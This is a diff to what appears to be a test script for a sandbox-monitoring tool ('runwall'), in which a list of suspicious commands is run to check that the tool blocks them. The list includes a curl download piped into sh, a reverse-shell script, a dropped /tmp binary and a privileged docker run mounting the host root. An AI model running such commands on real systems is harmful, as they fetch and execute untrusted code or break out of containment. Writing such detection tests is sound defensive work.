@@ -67,7 +67,8 @@ describe('detections under runwall exec (block mode)', () => {
        kill $traced $worker
        python3 reverse-shell.py
        sudo -n true; echo "sudo $?"
-       curl -s -m 5 http://allowed.test:443/install.sh | sh; echo "piped $?"
+       # A slow download (as a large installer is) keeps curl at the head of the pipe while sh reads it.
+       curl -s -m 8 --limit-rate 20 http://allowed.test:443/install.sh | sh; echo "piped $?"
        cp /bin/true /tmp/runwall-dropped-$$ && /tmp/runwall-dropped-$$; rm -f /tmp/runwall-dropped-$$
        nft list ruleset >/dev/null 2>&1; iptables -L >/dev/null 2>&1
        docker run --rm --privileged -v /:/host alpine true >/dev/null 2>&1
